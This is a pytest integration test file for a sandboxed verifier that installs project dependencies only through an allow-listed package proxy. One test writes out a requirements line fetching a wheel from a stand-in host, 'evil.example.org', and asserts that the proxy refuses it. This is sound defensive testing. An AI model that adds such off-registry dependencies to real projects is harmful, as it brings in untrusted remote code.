"""Install from this machine's registries by the clients themselves, through the proxy and through nothing else."""

import os
from pathlib import Path

import pytest
from integration.egress.test_way_out import run, spec
from integration.verification.projects import BASE, HEAD, Project, Trees
from services.registries import MachinePackages
from tamma_core.domain.task import SetupNetwork
from tamma_core.domain.verification import VerificationReport
from tamma_core.ports.sandbox import Sandbox
from tamma_core.sandbox.bubblewrap import Bubblewrap
from tamma_core.sandbox.landlock.backend import Landlock
from tamma_core.sandbox.own_places import OwnPlaces
from tamma_core.sandbox.toolchains import toolchain_mounts, toolchain_path
from tamma_core.system import SystemClock, SystemEntropy
from tamma_core.verification.network import NetworkUse
from tamma_core.verification.place import Toolchain, trusted
from tamma_core.verification.runner import Means, Verifier
from tamma_core.verification.settings import VerificationSettings

pytestmark = [pytest.mark.timeout(400), pytest.mark.enable_socket]
PYTHON = {
    "requirements.txt": "six==1.17.0\n",
    "test_it.py": "import six\n\ndef test_it():\n    assert six.PY3\n",
}
NODE = {
    "package.json": '{"name": "it", "version": "1.0.0", "scripts": {"test": "node --test", "postinstall": "node not/here.js"}, "dependencies": {"ms": "2.1.3"}}',
    "it.test.js": "const test = require('node:test'); const ms = require('ms');\ntest('it', () => { if (ms('1s') !== 1000) throw 1; });\n",
}
GO = {
    "go.mod": "module example.com/it\n\ngo 1.21\n\nrequire github.com/google/uuid v1.6.0\n",
    "go.sum": "github.com/google/uuid v1.6.0 h1:NIvaJDMOsjHA8n1jAhLSgzrAzy1Hgr+hNrb57e+94F0=\n"
    "github.com/google/uuid v1.6.0/go.mod h1:TIyPZe4MgqvfeYDBFedMoGGpEw/LqOeaOT+nhxU+yHo=\n",
    "it_test.go": 'package it\n\nimport (\n\t"testing"\n\n\t"github.com/google/uuid"\n)\n\nfunc TestIt(t *testing.T) {\n\tif uuid.NewString() == "" {\n\t\tt.Fatal("empty")\n\t}\n}\n',
}
RUST = {
    "Cargo.toml": '[package]\nname = "it"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nitoa = "=1.0.15"\n',
    "src/lib.rs": '#[test]\nfn it() {\n    assert_eq!(itoa::Buffer::new().format(7), "7");\n}\n',
}
JAVA = {
    "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>it</groupId><artifactId>it</artifactId><version>1</version>"
    "<properties><maven.compiler.source>17</maven.compiler.source><maven.compiler.target>17</maven.compiler.target></properties>"
    "<dependencies><dependency><groupId>junit</groupId><artifactId>junit</artifactId><version>4.13.2</version></dependency></dependencies></project>",
    "src/test/java/ItTest.java": "import org.junit.Test;\n\npublic class ItTest {\n    @Test\n    public void it() {}\n}\n",
}


NETWORK = VerificationSettings(setup_network=SetupNetwork.PROXY)


def verifying(tmp_path: Path, sandbox: Sandbox) -> Verifier:
    """Answer a verifier with the tools and the registries of this machine."""
    toolchain = Toolchain(mounts=toolchain_mounts(os.environ), path=toolchain_path(os.environ))
    means = Means(clock=SystemClock(), entropy=SystemEntropy(), toolchain=toolchain, egress=MachinePackages())
    return Verifier(sandbox, Trees(tmp_path / "commits"), tmp_path / "cache", means)


async def verified(tmp_path: Path, files: dict[str, str]) -> tuple[VerificationReport, tuple[NetworkUse, ...]]:
    """Verify a change that changes nothing."""
    verifier = verifying(tmp_path, Bubblewrap())
    project = Project(tmp_path / "commits", verifier)
    project.commit(BASE, files)
    project.commit(HEAD, files)
    report = await verifier.verify(BASE, HEAD, NETWORK)
    return report, verifier.take_used()


@pytest.mark.parametrize(
    "files",
    [
        PYTHON,
        NODE,
        GO,
        pytest.param(RUST, marks=pytest.mark.needs("rust")),
        pytest.param(JAVA, marks=pytest.mark.needs("java")),
    ],
    ids=["pip", "npm", "go", "cargo", "maven"],
)
async def test_the_set_up_installs_through_the_proxy(tmp_path: Path, files: dict[str, str]) -> None:
    """The tests run with dependencies that came through the proxy, and every host that served them is told."""
    report, used = await verified(tmp_path, files)
    assert (report.problem, report.tests_run) == ("", 1)
    assert report.green
    assert used[0].network is SetupNetwork.PROXY
    assert sum(host.received_bytes for host in used[0].traffic.passed) > 1000
    # A registry may miss a connection, and the client tries again.
    assert {refusal.reason for refusal in used[0].traffic.refused} <= {"could not be reached"}


@pytest.mark.parametrize(
    ("files", "fault", "name"),
    [
        (
            {**PYTHON, "requirements.txt": "six==1.17.0\nruff==0.14.0\n", "ruff.toml": ""},
            {"more.py": "import os\n"},
            "ruff",
        ),
        (
            {
                **NODE,
                "package.json": NODE["package.json"].replace('"ms": "2.1.3"', '"ms": "2.1.3", "typescript": "5.9.3"'),
                "tsconfig.json": '{"compilerOptions": {"strict": true, "types": []}, "include": ["*.ts"]}',
                "one.ts": "export const one: number = 1;\n",
            },
            {"two.ts": "export const two: number = 'two';\n"},
            "tsc",
        ),
    ],
    ids=["ruff", "tsc"],
)
async def test_a_linter_that_the_project_installs_and_has_settings_for(
    tmp_path: Path, files: dict[str, str], fault: dict[str, str], name: str
) -> None:
    """Nobody configured it and no CI runs it: what it finds in the change speaks against that, as it passes on the base."""
    verifier = verifying(tmp_path, Bubblewrap())
    project = Project(tmp_path / "commits", verifier)
    project.commit(BASE, files)
    project.commit(HEAD, {**files, **fault})
    report = await verifier.verify(BASE, HEAD, NETWORK)
    assert (report.problem, report.tests_run) == ("", 1)
    assert [(check.name, check.passed, check.passed_on_base) for check in report.checks] == [(name, False, True)]
    assert not report.green
    assert next(iter(fault)) in report.checks[0].output


async def test_a_set_up_that_wants_more_is_told_what_was_refused(tmp_path: Path) -> None:
    """A dependency from elsewhere fails, and the report says at which host."""
    files = {**PYTHON, "requirements.txt": "evil @ https://evil.example.org/evil-1.0-py3-none-any.whl\n"}
    report, used = await verified(tmp_path, files)
    assert "evil.example.org:443 is not on the list of package hosts" in report.problem
    assert used[0].traffic.refused[0].target == "evil.example.org:443"


PHP = {
    "composer.json": '{"require": {"php": ">=7"}, "autoload": {"psr-4": {"It\\\\": "src"}}}',
    "phpunit.xml": '<phpunit bootstrap="vendor/autoload.php"><testsuites><testsuite name="it"><directory>tests</directory></testsuite></testsuites></phpunit>',
    "src/One.php": "<?php\nnamespace It;\nclass One\n{\n    const N = 1;\n}\n",
    "tests/OneTest.php": "<?php\nclass OneTest extends PHPUnit\\Framework\\TestCase\n{\n    public function testIt(): void\n    {\n        $this->assertSame(1, It\\One::N);\n    }\n}\n",
}


@pytest.mark.needs("php")
async def test_composer_writes_an_autoloader_without_asking_anybody(tmp_path: Path) -> None:
    """A project without packages has the autoloader that its tests begin with, and no host was asked for it."""
    report, used = await verified(tmp_path, PHP)
    assert (report.problem, report.tests_run) == ("", 1)
    assert report.green
    assert not [host for use in used for host in use.traffic.passed]


@pytest.mark.parametrize(
    ("files", "shown"),
    [
        (PYTHON, "venv"),
        (NODE, "node_modules"),
        (GO, "mod"),
        pytest.param(RUST, "target", marks=pytest.mark.needs("rust")),
        pytest.param(PHP, "vendor", marks=pytest.mark.needs("php")),
        pytest.param(JAVA, "target", marks=pytest.mark.needs("java")),
    ],
    ids=["pip", "npm", "go", "cargo", "composer", "maven"],
)
async def test_packages_are_found_where_nothing_can_be_shown(tmp_path: Path, files: dict[str, str], shown: str) -> None:
    """Behind Landlock, tests find what was installed, and the agent's own tree is left as it was."""
    verifier = verifying(tmp_path, OwnPlaces(Landlock()))
    project = Project(tmp_path / "commits", verifier)
    project.commit(BASE, files)
    project.commit(HEAD, files)
    report = await verifier.verify(BASE, HEAD, NETWORK)
    assert (report.problem, report.tests_run) == ("", 1)
    assert report.green
    said = await verifier.run_selection(BASE, project.root / HEAD, [], NETWORK)
    assert "1 passed" in said, said
    assert not (project.root / HEAD / shown).exists()


CARGO = '[package]\nname = "it"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nitoa = "=1.0.15"\n'
MAVEN = (
    "<project><modelVersion>4.0.0</modelVersion><groupId>it</groupId><artifactId>it</artifactId><version>1</version>"
    "<packaging>pom</packaging></project>"
)


@pytest.mark.parametrize("sandbox", [Bubblewrap(), OwnPlaces(Landlock())], ids=["bubblewrap", "landlock"])
async def test_cargo_fetches_through_the_proxy(tmp_path: Path, sandbox: Bubblewrap | OwnPlaces) -> None:
    """Cargo finds the proxy by its environment, also where namespaces are refused."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "lib.rs").write_text("")
    (tmp_path / "Cargo.toml").write_text(CARGO)
    async with MachinePackages().open() as way:
        text, ended = await run(sandbox, way.through(spec(tmp_path, "cargo", "fetch", environment=trusted())))
    assert ended.exit_code == 0, text
    assert way.traffic().passed


async def test_maven_fetches_through_the_proxy(tmp_path: Path) -> None:
    """Maven, which reads no variable of its own for it, finds the proxy by its virtual machine's."""
    (tmp_path / "pom.xml").write_text(MAVEN)
    command = (
        "mvn",
        "-B",
        "-q",
        f"-Dmaven.repo.local={tmp_path}/m2",
        "org.apache.maven.plugins:maven-clean-plugin:3.4.0:clean",
    )
    asked = spec(tmp_path, *command, environment=trusted())
    async with MachinePackages().open() as way:
        text, ended = await run(Bubblewrap(), way.through(asked))
    assert ended.exit_code == 0, text
    assert way.traffic().passed
